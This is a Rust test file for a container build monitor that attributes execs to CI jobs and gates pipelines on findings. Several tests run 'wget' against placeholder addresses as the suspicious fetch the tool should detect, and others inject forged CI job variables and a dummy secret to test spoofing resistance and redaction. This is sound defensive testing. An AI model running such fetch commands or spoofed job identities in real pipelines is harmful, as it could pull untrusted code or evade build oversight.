//! Jobs: how they are told, and their reports and gates.

use crate::harness::{Container, Dir, Docker, Podman, program, run, until};
use buildwarden::report::model::{Job, JobReport};
use std::{
    fs,
    io::{BufRead as _, BufReader},
    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
    path::Path,
    process::{Child, Command, Stdio},
};

/// Waits until a run's annotation log has a line with this in it.
#[track_caller]
fn logged(dir: &Dir, run: &str, what: &str) {
    let log = dir.state().join("containers").join(run).join("annotations.jsonl");
    until(&format!("{what} in {}", log.display()), || {
        fs::read_to_string(&log).ok()?.contains(what).then_some(())
    });
}

/// Every byte that was written about a run.
fn written(dir: &Dir, run: &str) -> Vec<u8> {
    let entries = fs::read_dir(dir.state().join("containers").join(run)).unwrap();
    entries.flat_map(|entry| fs::read(entry.unwrap().path()).unwrap()).collect()
}

const LATER: &str = "export CI_PROJECT_PATH=evil/x CI_PIPELINE_ID=1 CI_JOB_ID=1; exec /bin/true";

#[test]
fn root_podman_exec_names_the_job() {
    let dir = Dir::new();
    let podman = Podman::new(&dir);
    // The entrypoint's own later words are the build's, too.
    let script = format!("sh -c '{LATER}'; exec sleep 600");
    let id = podman.run(&["--detach", "--name", "agent", "img:1", "sh", "-c", &script]);
    let id = id.expect_code(0).stdout().trim_end().to_owned();
    let exec = |job: &str, command: &[&str]| {
        let job = format!("CI_JOB_ID={job}");
        let own = ["-e", "CI_PROJECT_PATH=acme/web", "-e", "CI_PIPELINE_ID=3", "-e", &job];
        let args = [&["exec"], &own[..], &["-e", "KEY=hunter2", "agent"], command];
        podman.podman(&args.concat()).expect_code(0);
    };
    podman.podman(&["exec", "agent", "sh", "-c", LATER]).expect_code(0);
    exec("7", &["sh", "-c", LATER]);
    logged(&dir, &id, "dev.buildwarden.job.1");
    exec("7", &["true"]);
    exec("8", &["true"]);
    podman.podman(&["rm", "--force", "--time", "0", "agent"]).expect_code(0);

    let report = dir.report(&id);
    let execs = dir.execs(&id);
    // After the entrypoint's, and that of the first process executed into it.
    let first = execs.iter().filter(|exec| exec.has(LATER)).nth(2).unwrap();
    let source = |exec: u64| {
        format!(
            "GitLab CI (CI_PROJECT_PATH, CI_PIPELINE_ID, CI_JOB_ID) in the environment of exec {exec}"
        )
    };
    let last = execs.iter().rfind(|exec| exec.has("true") || exec.has("/bin/true")).unwrap();
    let job = Job { id: "acme/web/3/7".to_owned(), source: source(first.sequence) };
    assert_eq!(report.job.as_ref(), Some(&job), "{execs:?}");
    let other = Job { id: "acme/web/3/8".to_owned(), source: source(last.sequence) };
    assert_eq!(report.other_jobs, [other]);
    assert_eq!(report.completeness.reasons, [""; 0]);
    assert_eq!(report.verdict.as_str(), "clean", "{:?}", report.completeness);
    let entered = |exec: &&crate::harness::Exec| exec.flags.iter().any(|flag| flag == "entered");
    // Two images of each of two, and one of each of the others.
    assert_eq!(execs.iter().filter(entered).count(), 6, "{execs:?}");
    assert!(!entered(&&execs[0]), "{execs:?}");
    let written = String::from_utf8_lossy(&written(&dir, &id)).into_owned();
    assert!(!written.contains("hunter2") && !written.contains("KEY="), "{written}");
    dir.expect_nothing_live();
}

#[test]
fn root_docker_exec_names_the_job() {
    let dir = Dir::new();
    let docker = Docker::new(&dir);
    docker.run(&["--detach", "--name", "steps"], "sleep 600").expect_code(0);
    let id = docker.id("steps");
    let variables = [
        "GITHUB_REPOSITORY=acme/web",
        "GITHUB_RUN_ID=42",
        "GITHUB_RUN_ATTEMPT=1",
        "GITHUB_JOB=build",
        "RUNNER_NAME=r1",
    ];
    let long = format!("A={}", "x".repeat(30_000));
    let mut args = vec!["exec"];
    // More than what is delivered: what comes first is read.
    args.extend(variables.iter().chain([&long.as_str()]).flat_map(|v| ["--env", v]));
    args.extend(["steps", "wget", "http://198.51.100.40/x"]);
    docker.docker(&args).expect_code(1);
    docker.docker(&["rm", "--force", "steps"]).expect_code(0);
    let report = dir.report(&id);
    let job = report.job.unwrap();
    assert_eq!(job.id, "acme/web/42/1/build/r1");
    let [finding] = &report.findings[..] else { panic!("{:?}", report.findings) };
    let named = format!("in the environment of exec {}", finding.exec.sequence);
    assert!(job.source.ends_with(&named), "{job:?}");
    assert!(finding.exec.flags.iter().any(|flag| flag == "entered"), "{finding:?}");
    let advice = finding.advice.join("\n");
    assert!(advice.contains("acme/web/42/1/build/r1"), "{advice}");
    dir.expect_nothing_live();
}

/// The variables of a job `acme/web/3/…`.
fn gitlab(job: &str) -> [String; 3] {
    let number = job.rsplit('/').next().unwrap();
    let [project, pipeline] = ["CI_PROJECT_PATH=acme/web", "CI_PIPELINE_ID=3"].map(str::to_owned);
    [project, pipeline, format!("CI_JOB_ID={number}")]
}

/// `report --job JOB` as JSON.
#[track_caller]
fn job_report(dir: &Dir, job: &str) -> JobReport {
    let done = run(&mut dir.buildwarden(["report", "--job", job, "--format", "json"]));
    serde_json::from_slice(&done.stdout).unwrap_or_else(|error| panic!("{error}: {done}"))
}

#[test]
fn root_a_job_is_all_its_containers_and_builds_and_no_others() {
    let dir = Dir::new();
    let docker = Docker::new(&dir);
    let podman = Podman::new(&dir);
    let both = [("acme/web/3/7", "true"), ("acme/web/3/8", "wget http://198.51.100.41/x; true")];
    std::thread::scope(|scope| {
        for (job, script) in both {
            let (docker, podman) = (&docker, &podman);
            scope.spawn(move || {
                let annotation = format!("dev.buildwarden.job={job}");
                let variables = gitlab(job);
                let options: Vec<_> = variables.iter().flat_map(|v| ["-e", v]).collect();
                docker.run(&[&["--rm"], &options[..]].concat(), script).expect_code(0);
                let args = ["--rm", "--annotation", &annotation, "img:1", "sh", "-c", script];
                podman.run(&args).expect_code(0);
            });
        }
    });
    for (job, script) in both {
        for buildkit in [false, true] {
            let variables = gitlab(job);
            let options: Vec<_> = variables.iter().flat_map(|v| ["--build-arg", v]).collect();
            let arguments = "ARG CI_PROJECT_PATH CI_PIPELINE_ID CI_JOB_ID";
            let dockerfile = format!("FROM img:1\n{arguments}\nRUN true\nRUN {script}\n");
            docker.build(buildkit, &options, &dockerfile).expect_code(0);
        }
    }
    for (job, code, findings) in [("acme/web/3/7", 0, 0), ("acme/web/3/8", 10, 4)] {
        let args = ["report", "--job", job, "--fail-on", "medium", "--expect", "6"];
        run(&mut dir.buildwarden(args)).expect_code(code);
        let report = job_report(&dir, job);
        assert_eq!(report.containers.len(), 6, "{report:?}");
        assert_eq!(report.findings.critical + report.findings.medium, findings, "{report:?}");
        assert!(report.is_complete(), "{report:?}");
        let mut engines: Vec<_> =
            report.containers.iter().filter_map(|c| c.container.engine.as_deref()).collect();
        engines.sort();
        let want = ["buildkit", "buildkit", "docker", "docker", "docker", "podman"];
        assert_eq!(engines, want, "{report:?}");
    }
    for (jobs, code) in [("acme/web/3", 11), ("acme/web/3/*", 10)] {
        run(&mut dir.buildwarden(["report", "--job", jobs, "--fail-on", "medium"]))
            .expect_code(code);
    }
    assert_eq!(job_report(&dir, "acme/web/3/*").containers.len(), 12);
    dir.expect_nothing_live();
}

/// A gate that waits, on a job's containers.
fn gate(dir: &Dir, args: &[&str]) -> (Child, BufReader<std::process::ChildStderr>) {
    let mut command = dir.buildwarden(["report", "--job", "j", "--fail-on", "medium"]);
    let command = command.args(args).stdout(Stdio::null()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let stderr = BufReader::new(child.stderr.take().unwrap());
    (child, stderr)
}

#[test]
fn root_a_gate_waits_for_containers_that_run() {
    let dir = Dir::new();
    for (id, script, code) in [("clean", "true", 0), ("found", "wget http://198.51.100.42/x", 10)] {
        let script = format!("echo >/sync/ready; read _ </sync/go; {script}");
        let container = Container::new(&dir, id).annotation("dev.buildwarden.job", "j");
        let container = container.script(&script);
        let mut running = container.start();
        running.ready();
        // What runs at the end of the time is no reason to pass.
        let (mut late, _) = gate(&dir, &["--timeout", "50ms"]);
        assert_eq!(late.wait().unwrap().code(), Some(11), "{id}");
        let (mut excluding, _) = gate(&dir, &["--exclude", id]);
        assert_eq!(excluding.wait().unwrap().code(), Some(0), "{id}");

        let (mut waiting, mut stderr) = gate(&dir, &[]);
        let mut line = String::new();
        stderr.read_line(&mut line).unwrap();
        assert!(line.contains(&format!("until these have ended: {id}")), "{line}");
        running.go();
        assert_eq!(waiting.wait().unwrap().code(), Some(code), "{id}");
        running.finish();
    }
    dir.expect_nothing_live();
}

/// A group that every Debian has.
const GROUP: (&str, u32) = ("games", 60);

/// `buildwarden ARG…` as a user who is in these groups alone.
fn as_user(dir: &Dir, groups: &str, args: &[&str]) -> Command {
    // Where the build lies, not everybody may look.
    let program = dir.path("buildwarden");
    if !program.exists() {
        fs::copy(env!("CARGO_BIN_EXE_buildwarden"), &program).unwrap();
    }
    let mut command = Command::new("setpriv");
    command.args(["--reuid=65534", "--regid=65534", groups, "--bounding-set=-all"]);
    command.args(["--inh-caps=-all", "--no-new-privs"]).arg(program).args(args);
    command.env("BUILDWARDEN_CONFIG", dir.config()).current_dir("/");
    command
}

#[test]
fn root_a_group_reads_reports_and_strangers_do_not() {
    let dir = Dir::new();
    fs::set_permissions(dir.path(""), fs::Permissions::from_mode(0o711)).unwrap();
    // It was there before anybody thought of a group.
    Container::new(&dir, "before").script("true").run().expect_code(0);
    dir.report("before");
    dir.expect_nothing_live();
    dir.configure(&format!("[keep]\ngroup = {:?}", GROUP.0));
    let container = Container::new(&dir, "after").annotation("dev.buildwarden.job", "j");
    let script = "echo >/sync/ready; read _ </sync/go; wget http://198.51.100.43/x";
    let container = container.script(script);
    let mut running = container.start();
    running.ready();
    let member = |args: &[&str]| run(&mut as_user(&dir, "--groups=60", args));
    let stranger = |args: &[&str]| run(&mut as_user(&dir, "--clear-groups", args));

    let listed = member(&["list"]);
    assert!(listed.stdout().contains("after") && listed.stdout().contains("running"), "{listed}");
    running.go();
    running.finish();
    dir.report("after");
    dir.expect_nothing_live();

    let path = dir.state().join("containers/after");
    let mode = |path: &Path| {
        let metadata = fs::metadata(path).unwrap();
        (metadata.permissions().mode() & 0o7777, metadata.uid(), metadata.gid())
    };
    assert_eq!(mode(&path), (0o2750, 0, GROUP.1));
    for file in ["annotations.jsonl", "execs.jsonl", "report.json"] {
        assert_eq!(mode(&path.join(file)), (0o640, 0, GROUP.1), "{file}");
    }
    assert_eq!(mode(&dir.state().join("redaction.salt")), (0o640, 0, 0));

    let shown = member(&["report", "after", "--fail-on", "medium"]).expect_code(10);
    assert!(shown.stdout().contains("198.51.100.43"), "{shown}");
    // What cannot be read is said, and hides nothing else.
    let listed = member(&["list"]).expect_code(1);
    assert!(listed.stdout().contains("after"), "{listed}");
    let whom = "run this as root, or as a member of the `group` in the configuration";
    assert!(listed.stderr().contains("containers/before") && listed.stderr().contains(whom));
    let gate = member(&["report", "--job", "j", "--fail-on", "critical"]).expect_code(11);
    assert!(gate.stdout().contains("before"), "{gate}");
    for args in [&["list"][..], &["report", "after"], &["report", "--job", "j"]] {
        let refused = stranger(args).expect_code(1);
        assert!(refused.stderr().contains(whom) && refused.stdout().is_empty(), "{refused}");
    }
    run(Command::new("chgrp").arg("-R").arg(GROUP.0).arg(dir.state().join("containers/before")))
        .expect_code(0);
    member(&["list"]).expect_code(0);
    member(&["report", "--job", "j", "--fail-on", "critical"]).expect_code(0);
}

#[test]
fn root_crun_exec_names_the_job() {
    let dir = Dir::new();
    let container = Container::new(&dir, "crun").script("exec sleep 600").hooks(&[]);
    container.write_config();
    let mut command = Command::new("unshare");
    command.args(["--mount", "--propagation", "private", "sh", "-ec"]);
    // crun refuses a mixture of cgroup v1 and v2.
    command.arg(
        "umount -R /sys/fs/cgroup; mount -t cgroup2 cgroup2 /sys/fs/cgroup
         \"$@\" run --detach --bundle \"$BUNDLE\" crun
         \"$@\" exec --env CI_PROJECT_PATH=acme/web --env CI_PIPELINE_ID=3 \\
           --env CI_JOB_ID=9 crun /bin/true
         \"$@\" delete --force crun",
    );
    command.arg("sh").arg(dir.shim("buildwarden-crun")).arg("--root").arg(dir.path("crun"));
    command.env("BUNDLE", container.bundle()).env("BUILDWARDEN_CONFIG", dir.config());
    run(&mut command).expect_code(0);
    let report = dir.report("crun");
    assert_eq!(report.job.map(|job| job.id).as_deref(), Some("acme/web/3/9"));
    let execs = dir.execs("crun");
    let entered = execs.iter().filter(|exec| exec.flags.iter().any(|flag| flag == "entered"));
    assert_eq!(entered.count(), 1, "{execs:?}");
    dir.expect_nothing_live();
}

/// Who was executed into a container can give its children its own parent, which is
/// outside; they are not from outside for that.
#[test]
fn root_a_child_that_was_disowned_names_no_job() {
    let dir = Dir::new();
    let container = Container::new(&dir, "agent")
        .with(&program("disown"), "/bin/disown")
        .script("echo >/sync/ready; read _ </sync/go");
    let mut running = container.start();
    running.ready();
    let forged = ["CI_PROJECT_PATH=evil/x", "CI_PIPELINE_ID=1", "CI_JOB_ID=9"];
    running.exec(&[&["/bin/disown", "/bin/true", "--"][..], &forged].concat()).expect_code(0);
    running.go();
    running.finish().expect_code(0);
    let report = dir.report("agent");
    assert_eq!((report.job, report.other_jobs), (None, vec![]));
    assert_eq!(report.completeness.lost_environments, 1);
    assert_eq!(report.completeness.reasons, [""; 0]);
    let entered: Vec<bool> =
        dir.execs("agent").iter().map(|exec| exec.flags.iter().any(|f| f == "entered")).collect();
    assert_eq!(entered, [false, true, false]);
}

#[test]
fn root_a_lost_environment_is_no_lost_exec() {
    let dir = Dir::with_bpffs();
    dir.configure("[ring]\nsize = \"128KiB\"\npool = 0");
    let podman = Podman::new(&dir);
    let id = podman.run(&["--detach", "--name", "full", "img:1", "sleep", "600"]);
    let id = id.expect_code(0).stdout().trim_end().to_owned();
    // Four of these are as much as goes in before only tools may; the fifth is too much.
    let long = format!("A={}", "x".repeat(22_900));
    dir.while_stopped(&id, || {
        for _ in 0..5 {
            podman.podman(&["exec", "-e", &long, "full", "true"]).expect_code(0);
        }
    });
    podman.podman(&["rm", "--force", "--time", "0", "full"]).expect_code(0);
    let report = dir.report(&id);
    assert_eq!(report.completeness.lost_environments, 1, "{:?}", report.completeness);
    assert_eq!((report.completeness.execs, report.completeness.lost), (6, 0));
    assert_eq!(report.verdict.as_str(), "clean", "{:?}", report.completeness);
    assert_eq!(report.job.map(|job| job.source).as_deref(), Some("cgroup parent"));
    dir.expect_nothing_live();
}
